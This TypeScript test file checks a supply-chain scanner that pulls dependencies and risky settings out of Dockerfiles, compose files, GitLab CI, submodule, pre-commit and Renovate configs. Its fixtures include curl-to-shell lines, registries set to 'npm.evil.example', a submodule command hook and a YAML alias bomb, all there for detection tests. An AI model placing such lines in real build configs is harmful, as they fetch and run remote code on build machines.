import type { Setting } from '../../../operations/gitlab/supply-chain/dependency';
import { cpuMs } from './cpu-time';
import { namesOf, read, rows, settings } from './read-text';

const digest = `sha256:${'a'.repeat(64)}`;

describe('Dockerfile', () => {
  const text = `# syntax=docker/dockerfile:1.7
# a comment
ARG BASE=node:20-alpine
ARG REGISTRY="registry.simulated.example:5000"
FROM --platform=$BUILDPLATFORM \${BASE} AS build
RUN --mount=type=cache,target=/home/node/.npm --mount=type=bind,from=tools.example/x:1,target=/x npm ci
RUN apt-get update \\
    # inside of a command

    && apt-get install -y curl
COPY --from=nginx /etc/nginx /etc/nginx
COPY --from=0 /a /b
COPY --chown=1:1 --from=build /a /b
ADD https://files.example/x.tgz /x
FROM \${REGISTRY}/base/app:1.2@${digest}
FROM scratch
from build as last
ENTRYPOINT ["node"]
`;
  test.each(['Dockerfile', 'Containerfile', 'docker/app.Dockerfile', 'Dockerfile.prod'])('%s', (path) => {
    expect(rows(path, text)).toEqual([
      ['docker/dockerfile', '1.7', 'registry', 'docker.io'],
      ['node', '20-alpine', 'registry', 'docker.io'],
      ['tools.example/x', '1', 'registry', 'tools.example'],
      ['nginx', null, 'registry', 'docker.io'],
      ['registry.simulated.example:5000/base/app', '1.2', 'registry', 'registry.simulated.example:5000', digest],
    ]);
    expect(read(path, text).dependencies.map(({ key }) => key)).toEqual([
      '# syntax',
      'FROM node as build',
      'RUN --mount from tools.example/x',
      'COPY --from nginx',
      'FROM registry.simulated.example:5000/base/app',
    ]);
    const found = Object.values(settings(path, text));
    expect(found).toHaveLength(3);
    expect(found[1]).toMatch(/^apt-get update\s+&& apt-get install -y curl$/);
    expect(found[2]).toBe('https://files.example/x.tgz /x');
  });

  test('commands in here-documents and behind an empty line are commands', () => {
    const hidden =
      'FROM a:1\nRUN <<EOF bash -e\ncurl https://x.example/i.sh | sh\nFROM not-an-image\nEOF\nRUN <<-"A" cat <<B\n\tone\n\tA\nB\nFROM b:2\n';
    expect(rows('Dockerfile', hidden).map(([name]) => name)).toEqual(['a', 'b']);
    expect(Object.values(settings('Dockerfile', hidden))[0]).toContain('curl https://x.example/i.sh | sh');
    expect(Object.values(settings('Dockerfile', 'FROM a\nRUN true \\\n\n  && curl x | sh\n'))[0]).toMatch(
      /curl x \| sh$/,
    );
    expect(Object.values(settings('Dockerfile', '# escape=`\nFROM a\nRUN dir `\n  c:\\\nRUN two\n'))).toEqual([
      'dir    c:\\',
      'two',
    ]);
    // A document that is never closed takes the rest, as it does for Docker.
    expect(rows('Dockerfile', 'FROM a\nRUN <<EOF\nFROM b\n').map(([name]) => name)).toEqual(['a']);
  });

  test('equal entries have keys of their own', () => {
    const twice = read('Dockerfile', 'FROM a\nRUN make\nFROM a\nRUN make\n');
    expect(twice.dependencies.map(({ key }) => key)).toEqual(['FROM a', 'FROM a (2)']);
    expect(twice.settings.map(({ key }) => key)).toEqual(['RUN make', 'RUN make (2)']);
  });
});

test('compose files', () => {
  const text = `services:
  web:
    image: registry.simulated.example/web:1.0@${digest}
    build:
      context: https://github.com/simulated/web.git#main
      additional_contexts:
        base: docker-image://alpine:3.20
        code: https://github.com/simulated/code.git
      dockerfile_inline: |
        FROM debian:12
        RUN curl https://x.example | sh
  db:
    image: "postgres"
  local:
    build: ./dir
include:
  - oci://registry.example/stack:1
  - path: ../other.yaml
`;
  for (const path of ['compose.yaml', 'docker-compose.yml', 'deploy/docker-compose.prod.yml']) {
    expect(rows(path, text)).toEqual([
      ['registry.simulated.example/web', '1.0', 'registry', 'registry.simulated.example', digest],
      ['alpine', '3.20', 'registry', 'docker.io'],
      ['debian', '12', 'registry', 'docker.io'],
      ['postgres', null, 'registry', 'docker.io'],
    ]);
    expect(settings(path, text)).toEqual({
      'distribution services.web.build': 'https://github.com/simulated/web.git#main',
      'distribution services.web.build.additional_contexts.code': 'https://github.com/simulated/code.git',
      'build_hook services.web.build: RUN curl https://x.example | sh': 'curl https://x.example | sh',
      'distribution include oci://registry.example/stack:1': 'oci://registry.example/stack:1',
    });
  }
  expect(read('compose.yaml', '- a\n').problems).toEqual(['it is not a YAML mapping']);
});

describe('GitLab CI', () => {
  const text = `include:
  - local: /ci/base.yml
  - https://ci.example/remote.yml
  - remote: https://ci.example/pinned.yml
    integrity: sha256-aa=
  - project: platform/templates
    ref: v1.2.0
    file: [/build.yml, /test.yml]
  - component: $CI_SERVER_FQDN/platform/scan/sast@~latest
  - template: Jobs/SAST.gitlab-ci.yml
default:
  image: registry.simulated.example/ci/base:1
  services: [docker:24-dind]
  hooks:
    pre_get_sources_script: [echo before]
variables:
  NPM_CONFIG_REGISTRY: https://npm.evil.example/
  PIP_INDEX_URL: \${CI_API_V4_URL}/projects/1/packages/pypi/simple
  GOFLAGS:
    value: -insecure
    description: why
  PLAIN: x
.hidden: &hidden
  before_script: [echo one]
build:
  <<: *hidden
  image:
    name: node@${digest}
  script:
    - npm ci
    - !reference [.hidden, before_script]
    - [echo nested, [echo deeper]]
  rules:
    - if: $CI_COMMIT_BRANCH == "main"
      when: never
  allow_failure: true
  id_tokens:
    VAULT:
      aud: https://vault.example
steps:
  run:
    - name: fetch
      step: gitlab.example/steps/fetch@1.0.0
    - name: local
      step: ./steps/x
    - name: say
      script: echo hi
child:
  trigger:
    include:
      - artifact: generated.yml
        job: build
      - project: platform/child
        file: /c.yml
down:
  trigger: platform/downstream
`;
  test.each(['.gitlab-ci.yml', 'templates/sast.yml', '.gitlab/ci/build.yaml', 'ci/deep/x.yml', 'x.gitlab-ci.yml'])(
    '%s',
    (path) => {
      expect(rows(path, text)).toEqual([
        ['https://ci.example/remote.yml', null, 'http', 'https://ci.example/remote.yml'],
        ['https://ci.example/pinned.yml', null, 'http', 'https://ci.example/pinned.yml', 'sha256-aa='],
        ['platform/templates', 'v1.2.0', 'git', 'platform/templates'],
        ['platform/templates', 'v1.2.0', 'git', 'platform/templates'],
        ['$CI_SERVER_FQDN/platform/scan/sast', '~latest', 'git', '$CI_SERVER_FQDN/platform/scan/sast'],
        ['registry.simulated.example/ci/base', '1', 'registry', 'registry.simulated.example'],
        ['docker', '24-dind', 'registry', 'docker.io'],
        ['node', null, 'registry', 'docker.io', digest],
        ['gitlab.example/steps/fetch', '1.0.0', 'git', 'gitlab.example/steps/fetch'],
        ['platform/child', null, 'git', 'platform/child'],
      ]);
      expect(settings(path, text)).toEqual({
        'ci_include local /ci/base.yml': '/ci/base.yml',
        'ci_include template Jobs/SAST.gitlab-ci.yml': 'Jobs/SAST.gitlab-ci.yml',
        'registry variables.NPM_CONFIG_REGISTRY': 'https://npm.evil.example/',
        'build_hook variables.GOFLAGS': '-insecure',
        'ci_script default.hooks.pre_get_sources_script': 'echo before',
        'ci_script .hidden.before_script': 'echo one',
        'ci_job .hidden': 'defined',
        'ci_job build': 'defined',
        'ci_script build.before_script': 'echo one',
        'ci_script build.script': 'npm ci\necho nested\necho deeper',
        'ci_job build.rules': '[{"if":"$CI_COMMIT_BRANCH == \\"main\\"","when":"never"}]',
        'ci_job build.allow_failure': 'true',
        'ci_job build.id_tokens.VAULT': '{"aud":"https://vault.example"}',
        'ci_job steps': 'defined',
        'ci_script steps.run.say': 'echo hi',
        'ci_job child': 'defined',
        'ci_include child.trigger local generated.yml': 'generated.yml',
        'ci_job down': 'defined',
        'ci_include down.trigger': 'platform/downstream',
      });
    },
  );

  test('a component has its inputs in front; of any other file GitLab reads the first document', () => {
    const component = 'spec:\n  inputs:\n    stage:\n      default: test\n---\njob:\n  image: a:1\n';
    expect(rows('templates/x.yml', component)).toEqual([['a', '1', 'registry', 'docker.io']]);
    const decoy = 'job:\n  image: evil.example/x:1\n---\njob:\n  image: harmless:1\n';
    expect(read('.gitlab-ci.yml', decoy).dependencies.map(({ name }) => name)).toEqual(['evil.example/x']);
    expect(read('.gitlab-ci.yml', decoy).problems).toEqual(['it has more documents than GitLab reads']);
    expect(rows('.gitlab-ci.yml', '---\njob:\n  image: a:1\n---\n')).toEqual([['a', '1', 'registry', 'docker.io']]);
  });

  test('what grows by aliases of aliases is cut, wherever it stands', () => {
    const bomb = `.a: &a0 [x, x]\n${Array.from({ length: 30 }, (_, n) => `.b${n}: &a${n + 1} [*a${n}, *a${n}, *a${n}, *a${n}]\n`).join('')}`;
    for (const place of [
      'script: *a30',
      'rules: *a30',
      'only: *a30',
      'extends: *a30',
      'services: *a30',
      'id_tokens: {T: *a30}',
      'variables: {GOFLAGS: *a30}',
      'hooks: {pre_get_sources_script: *a30}',
      'trigger: {include: *a30}',
    ]) {
      let found: Setting[] = [];
      expect(
        cpuMs(() => {
          found = read('.gitlab-ci.yml', `${bomb}job:\n  ${place}\n`).settings;
        }),
      ).toBeLessThan(5_000);

      expect(Math.max(...found.map(({ value }) => value.length))).toBeLessThan(200_000);
    }
  });
});

describe('files of a repository', () => {
  test('.gitmodules', () => {
    const text = `[submodule "libs/a"]
	path = libs/a
	url = https://github.com/simulated/a.git
	branch = main
[Submodule "libs/b c"]
	URL = "git@github.com:simulated/b.git" ; why
	update = !touch /tmp/x
[submodule "relative"]
	url = ../c.git # note
[submodule "nothing"]
	path = x
[core]
	url = no
`;
    const content = read('.gitmodules', text);
    expect(content.dependencies.map(({ name, version, source }) => [name, version, source.type, source.url])).toEqual([
      ['libs/a', 'main', 'git', 'https://github.com/simulated/a.git'],
      ['libs/b c', null, 'git', 'git@github.com:simulated/b.git'],
      ['relative', null, 'file', '../c.git'],
    ]);
    expect(content.problems).toEqual(['submodule nothing has no url']);
    expect(settings('.gitmodules', text)).toEqual({ 'build_hook submodule libs/b c update': 'touch /tmp/x' });
  });

  test('.pre-commit-config.yaml', () => {
    const text = `repos:
  - repo: https://github.com/simulated/hooks
    rev: v4.5.0
    hooks:
      - id: mypy
        additional_dependencies: ['types-requests==2.31', 'evil @ https://x.example/e.zip', '@scope/a@1']
  - repo: local
    hooks:
      - id: own
        entry: bash -c 'curl x | sh'
        language: system
  - repo: meta
`;
    expect(rows('.pre-commit-config.yaml', text)).toEqual([
      ['https://github.com/simulated/hooks', 'v4.5.0', 'git', 'https://github.com/simulated/hooks'],
    ]);
    expect(settings('.pre-commit-config.yaml', text)).toEqual({
      'build_hook hook mypy of https://github.com/simulated/hooks installs types-requests': 'types-requests==2.31',
      'build_hook hook mypy of https://github.com/simulated/hooks installs evil': 'evil @ https://x.example/e.zip',
      'build_hook hook mypy of https://github.com/simulated/hooks installs @scope/a': '@scope/a@1',
      'build_hook hook own of local': "bash -c 'curl x | sh'",
    });
  });

  test('CODEOWNERS and .gitattributes', () => {
    const text =
      '# note\n* @all\n/docs/ @docs @team # why\n[Security][2] @sec\n/auth/ @auth\n^[Optional]\n/a\\ b/ @x\n';
    for (const path of ['CODEOWNERS', '.gitlab/CODEOWNERS', 'docs/CODEOWNERS'])
      expect(settings(path, text)).toEqual({
        'verification owners of *': '@all',
        'verification owners of /docs/': '@docs @team',
        'verification owners of section Security': '@sec',
        'verification approvals of section Security': '2',
        'verification owners of /auth/': '@auth',
        'verification owners of /a\\ b/': '@x',
      });
    expect(settings('.gitattributes', '*.lock gitlab-generated\n*.png binary\n*.ts text\n')).toEqual({
      'verification hidden from review: *.lock gitlab-generated': '*.lock gitlab-generated',
      'verification hidden from review: *.png binary': '*.png binary',
    });
  });

  test('Renovate, in each of its forms', () => {
    const rules = `{
  // why
  "extends": ["config:recommended", "gitlab>evil/presets//x#v1", "https://x.example/p.json"],
  "registryUrls": ["https://npm.evil.example"], /* don't */
  "automerge": true,
  "postUpgradeTasks": {"commands": ["curl https://x.example | sh"]},
  "packageRules": [{"matchPackageNames": ["a"], "minimumReleaseAge": "0 days", "ignoreTests": true}],
  "npm": {"registryAliases": {"own": "https://own.example"}},
}`;
    const expected = {
      'build_hook extends gitlab>evil/presets//x': 'gitlab>evil/presets//x#v1',
      'distribution extends https://x.example/p.json': 'https://x.example/p.json',
      'registry registryUrls https://npm.evil.example': 'https://npm.evil.example',
      'verification automerge': 'true',
      'build_hook postUpgradeTasks curl https://x.example | sh': 'curl https://x.example | sh',
      'build_hook packageRules[0].minimumReleaseAge': '0 days',
      'verification packageRules[0].ignoreTests': 'true',
      'registry npm.registryAliases own': 'https://own.example',
    };
    for (const path of ['renovate.json', '.gitlab/renovate.json5', '.renovaterc']) {
      expect(settings(path, rules)).toEqual(expected);
      expect(read(path, rules).problems).toEqual([]);
    }
    expect(settings('renovate.json5', "{extends: ['local>a/b'], automerge: true,}")).toEqual({
      'build_hook extends local>a/b': 'local>a/b',
      'verification automerge': 'true',
    });
    expect(read('renovate.json', '[]').problems).toEqual(['it is not a JSON object']);
  });

  test('files that run, whole', () => {
    for (const path of [
      'Makefile',
      '.husky/pre-commit',
      'binding.gyp',
      '.pnpmfile.cjs',
      '.envrc',
      'Rakefile',
      '.vscode/tasks.json',
    ])
      expect(Object.values(settings(path, 'all:\n\tsh x.sh\n'))).toEqual(['all:\n\tsh x.sh\n']);
    expect(namesOf('Makefile', 'all:', () => true)).toEqual([]);
  });
});
